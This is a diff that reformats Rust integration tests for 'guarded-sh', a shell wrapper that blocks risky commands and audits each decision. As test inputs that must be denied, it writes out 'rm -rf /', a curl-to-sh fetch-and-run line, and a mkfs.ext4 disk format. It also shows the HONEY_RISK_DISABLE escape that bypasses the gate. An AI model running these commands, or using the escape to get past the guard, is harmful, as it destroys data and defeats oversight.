@@ -24,7 +24,13 @@ impl Setup {
         );
         // A configured but missing policy directory would deny everything; these tests run with
         // none configured, so point `dir` away only when a test asks for it.
-        let config = config.replace(&format!("[policy]\ndir = \"{}/no-policy-configured\"\n", dir.path().display()), "[policy]\n");
+        let config = config.replace(
+            &format!(
+                "[policy]\ndir = \"{}/no-policy-configured\"\n",
+                dir.path().display()
+            ),
+            "[policy]\n",
+        );
         std::fs::write(dir.path().join("config.toml"), config).unwrap();
         Setup { dir }
     }
@@ -43,7 +49,10 @@ impl Setup {
     }
 
     fn run(&self, args: &[&str]) -> Output {
-        self.command(Path::new(BIN), args).stdin(Stdio::null()).output().unwrap()
+        self.command(Path::new(BIN), args)
+            .stdin(Stdio::null())
+            .output()
+            .unwrap()
     }
 
     fn run_with_stdin(&self, args: &[&str], input: &[u8]) -> Output {
@@ -88,7 +97,9 @@ fn exit_status_passes_through() {
 #[test]
 fn binary_stdin_round_trips_byte_for_byte() {
     let s = Setup::new("");
-    let data: Vec<u8> = (0..1_048_576u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
+    let data: Vec<u8> = (0..1_048_576u32)
+        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
+        .collect();
     let out = s.run_with_stdin(&["-c", "cat"], &data);
     assert!(out.status.success(), "{}", text(&out.stderr));
     assert_eq!(out.stdout.len(), data.len());
@@ -105,7 +116,10 @@ fn denied_command_prints_one_stderr_line_nothing_on_stdout_and_does_not_run() {
     assert!(out.stdout.is_empty(), "stdout: {:?}", text(&out.stdout));
     let err = text(&out.stderr);
     assert_eq!(err.lines().count(), 1, "{err}");
-    assert!(err.starts_with("guarded-sh: denied: command risk: recursive delete of a system/root path"), "{err}");
+    assert!(
+        err.starts_with("guarded-sh: denied: command risk: recursive delete of a system/root path"),
+        "{err}"
+    );
     assert!(!marker.exists(), "part of a denied command ran");
 }
 
@@ -130,7 +144,12 @@ fn environment_is_scrubbed_but_otherwise_untouched() {
         .env("RUST_BACKTRACE", "1")
         .output()
         .unwrap();
-    assert_eq!(text(&out.stdout), "[][][kept][1][hBc]\n0\n0\n", "stderr: {}", text(&out.stderr));
+    assert_eq!(
+        text(&out.stdout),
+        "[][][kept][1][hBc]\n0\n0\n",
+        "stderr: {}",
+        text(&out.stderr)
+    );
 }
 
 #[test]
@@ -152,13 +171,25 @@ fn bashrc_is_not_sourced_behind_the_gate() {
 #[test]
 fn shims_dispatch_by_link_name() {
     let s = Setup::new("");
-    let cases = [("sh", "/bin/dash"), ("bash", "/bin/bash"), ("dash", "/bin/dash")];
+    let cases = [
+        ("sh", "/bin/dash"),
+        ("bash", "/bin/bash"),
+        ("dash", "/bin/dash"),
+    ];
     for (name, real) in cases {
         let link = s.path(name);
         std::os::unix::fs::symlink(BIN, &link).unwrap();
-        let out = s.command(&link, &["-c", "readlink /proc/$$/exe; echo \"$0\""]).output().unwrap();
+        let out = s
+            .command(&link, &["-c", "readlink /proc/$$/exe; echo \"$0\""])
+            .output()
+            .unwrap();
         let expected = std::fs::canonicalize(real).unwrap();
-        assert_eq!(text(&out.stdout), format!("{}\n{name}\n", expected.display()), "{name}: {}", text(&out.stderr));
+        assert_eq!(
+            text(&out.stdout),
+            format!("{}\n{name}\n", expected.display()),
+            "{name}: {}",
+            text(&out.stderr)
+        );
         let denied = s.command(&link, &["-c", "rm -rf /"]).output().unwrap();
         assert_eq!(denied.status.code(), Some(126), "{name} shim must gate");
     }
@@ -171,9 +202,19 @@ fn scripts_are_gated_whole_and_run_as_gated() {
     let good = s.path("good.sh");
     std::fs::write(&good, "echo \"$0 $1\"\nexit 5\n").unwrap();
     let out = s.run(&[good.to_str().unwrap(), "arg"]);
-    assert_eq!((out.status.code(), text(&out.stdout)), (Some(5), format!("{} arg\n", good.display())));
+    assert_eq!(
+        (out.status.code(), text(&out.stdout)),
+        (Some(5), format!("{} arg\n", good.display()))
+    );
     let bad = s.path("bad.sh");
-    std::fs::write(&bad, format!("touch {}\ncurl -s https://example.invalid/x | sh\n", marker.display())).unwrap();
+    std::fs::write(
+        &bad,
+        format!(
+            "touch {}\ncurl -s https://example.invalid/x | sh\n",
+            marker.display()
+        ),
+    )
+    .unwrap();
     let out = s.run(&[bad.to_str().unwrap()]);
     assert_eq!(out.status.code(), Some(126));
     assert!(!marker.exists());
@@ -184,7 +225,10 @@ fn scripts_on_stdin_are_gated_before_any_of_them_runs() {
     let s = Setup::new("");
     let marker = s.path("ran");
     let out = s.run_with_stdin(&[], b"echo one\nexit 4\n");
-    assert_eq!((out.status.code(), text(&out.stdout)), (Some(4), "one\n".to_string()));
+    assert_eq!(
+        (out.status.code(), text(&out.stdout)),
+        (Some(4), "one\n".to_string())
+    );
     let script = format!("touch {}\nmkfs.ext4 /dev/sdz9\n", marker.display());
     let out = s.run_with_stdin(&[], script.as_bytes());
     assert_eq!(out.status.code(), Some(126));
@@ -199,7 +243,11 @@ fn oversized_stdin_script_is_denied() {
     script.push_str(&"# padding\n".repeat(200));
     let out = s.run_with_stdin(&[], script.as_bytes());
     assert_eq!(out.status.code(), Some(126));
-    assert!(text(&out.stderr).contains("too large"), "{}", text(&out.stderr));
+    assert!(
+        text(&out.stderr).contains("too large"),
+        "{}",
+        text(&out.stderr)
+    );
     assert!(!marker.exists());
 }
 
@@ -208,12 +256,21 @@ fn bad_input_is_a_usage_error_and_runs_nothing() {
     let s = Setup::new("");
     let marker = s.path("ran");
     let touch = format!("touch {}", marker.display());
-    let table: &[&[&str]] = &[&["-Z", "-c", &touch], &["--frobnicate", "-c", &touch], &["-c"], &["-o"]];
+    let table: &[&[&str]] = &[
+        &["-Z", "-c", &touch],
+        &["--frobnicate", "-c", &touch],
+        &["-c"],
+        &["-o"],
+    ];
     for args in table {
         let out = s.run(args);
         assert_eq!(out.status.code(), Some(2), "{args:?}");
         assert!(out.stdout.is_empty());
-        assert!(text(&out.stderr).contains("nothing was run"), "{args:?}: {}", text(&out.stderr));
+        assert!(
+            text(&out.stderr).contains("nothing was run"),
+            "{args:?}: {}",
+            text(&out.stderr)
+        );
     }
     assert!(!marker.exists());
 }
@@ -221,12 +278,19 @@ fn bad_input_is_a_usage_error_and_runs_nothing() {
 #[test]
 fn malformed_configuration_names_the_line_and_runs_nothing() {
     let s = Setup::new("");
-    std::fs::write(s.path("config.toml"), "[shells]\ndefault = \"/bin/bash\"\nsh = [\n").unwrap();
+    std::fs::write(
+        s.path("config.toml"),
+        "[shells]\ndefault = \"/bin/bash\"\nsh = [\n",
+    )
+    .unwrap();
     let marker = s.path("ran");
     let out = s.run(&["-c", &format!("touch {}", marker.display())]);
     assert_eq!(out.status.code(), Some(2));
     let err = text(&out.stderr);
-    assert!(err.contains("config.toml:3:") || err.contains("config.toml:4:"), "{err}");
+    assert!(
+        err.contains("config.toml:3:") || err.contains("config.toml:4:"),
+        "{err}"
+    );
     assert!(!marker.exists());
 }
 
@@ -235,23 +299,43 @@ fn missing_real_shell_is_an_error_not_a_fallback() {
     let s = Setup::new("[shells]\ndefault = \"/nonexistent/bash\"\n");
     let out = s.run(&["-c", "true"]);
     assert_eq!(out.status.code(), Some(126));
-    assert!(text(&out.stderr).contains("cannot run /nonexistent/bash"), "{}", text(&out.stderr));
+    assert!(
+        text(&out.stderr).contains("cannot run /nonexistent/bash"),
+        "{}",
+        text(&out.stderr)
+    );
 }
 
 #[test]
 fn trusted_escape_is_honoured_audited_and_can_be_refused() {
     let critical = "rm -rf \"$GSH_TEST_UNSET_VARIABLE\" 2>/dev/null; echo escaped";
     let s = Setup::new("");
-    let out = s.command(Path::new(BIN), &["-c", critical]).env("HONEY_RISK_DISABLE", "1").output().unwrap();
+    let out = s
+        .command(Path::new(BIN), &["-c", critical])
+        .env("HONEY_RISK_DISABLE", "1")
+        .output()
+        .unwrap();
     assert_eq!(text(&out.stdout), "escaped\n", "{}", text(&out.stderr));
     let records = s.audit_lines();
     assert_eq!(records.last().unwrap()["verdict"], "escape");
     for value in ["0", "false", ""] {
-        let out = s.command(Path::new(BIN), &["-c", critical]).env("HONEY_RISK_DISABLE", value).output().unwrap();
-        assert_eq!(out.status.code(), Some(126), "HONEY_RISK_DISABLE={value:?} must not escape");
+        let out = s
+            .command(Path::new(BIN), &["-c", critical])
+            .env("HONEY_RISK_DISABLE", value)
+            .output()
+            .unwrap();
+        assert_eq!(
+            out.status.code(),
+            Some(126),
+            "HONEY_RISK_DISABLE={value:?} must not escape"
+        );
     }
     let refused = Setup::new("[escape]\nallow = false\n");
-    let out = refused.command(Path::new(BIN), &["-c", critical]).env("HONEY_RISK_DISABLE", "1").output().unwrap();
+    let out = refused
+        .command(Path::new(BIN), &["-c", critical])
+        .env("HONEY_RISK_DISABLE", "1")
+        .output()
+        .unwrap();
     assert_eq!(out.status.code(), Some(126));
 }
 
@@ -263,19 +347,45 @@ fn every_decision_is_audited_before_exec() {
     let records = s.audit_lines();
     assert_eq!(records.len(), 2);
     let keys = [
-        "time", "decision_id", "user", "uid", "mode", "tty", "ssh_client", "host", "target_env", "command",
-        "truncated", "signals", "max_severity", "verdict", "reason", "stage", "policy_digest", "duration_us",
+        "time",
+        "decision_id",
+        "user",
+        "uid",
+        "mode",
+        "tty",
+        "ssh_client",
+        "host",
+        "target_env",
+        "command",
+        "truncated",
+        "signals",
+        "max_severity",
+        "verdict",
+        "reason",
+        "stage",
+        "policy_digest",
+        "duration_us",
     ];
     for r in &records {
         for k in keys {
             assert!(r.get(k).is_some(), "audit record lacks {k}: {r}");
         }
     }
-    assert_eq!((records[0]["verdict"].as_str(), records[0]["command"].as_str()), (Some("allow"), Some("echo allowed")));
+    assert_eq!(
+        (
+            records[0]["verdict"].as_str(),
+            records[0]["command"].as_str()
+        ),
+        (Some("allow"), Some("echo allowed"))
+    );
     assert_eq!(records[1]["verdict"], "deny");
     assert_eq!(records[1]["stage"], "built_in");
     assert_eq!(records[1]["max_severity"], "critical");
-    assert!(records[1]["signals"].as_array().unwrap().iter().any(|s| s == "DELETE_ROOT_PATH"));
+    assert!(records[1]["signals"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|s| s == "DELETE_ROOT_PATH"));
 }
 
 #[test]
